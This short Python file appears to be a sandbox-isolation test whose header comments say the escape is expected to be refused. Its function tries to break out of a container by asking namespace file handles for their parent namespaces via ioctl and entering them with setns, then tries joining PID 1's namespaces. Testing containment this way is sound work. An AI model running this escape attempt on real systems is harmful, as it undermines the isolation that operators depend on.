# Namespaces are asked for their parents, which are entered.
# text: refused
# user: refused
# needs: calls
import ctypes
import os
from pathlib import Path


def attempt(outside: Path) -> object:
    libc = ctypes.CDLL(None, use_errno=True)
    for name in ("pid", "user", "mnt", "net", "ipc"):
        try:
            descriptor = os.open(f"/proc/self/ns/{name}", os.O_RDONLY)
        except OSError:
            continue
        for command in (0xB702, 0xB701):
            parent = libc.ioctl(descriptor, command, 0)
            if parent >= 0 and libc.setns(parent, 0) == 0:
                return name
    return any(libc.setns(os.open(path, os.O_RDONLY), 0) == 0 for path in Path("/proc/1/ns").glob("*"))
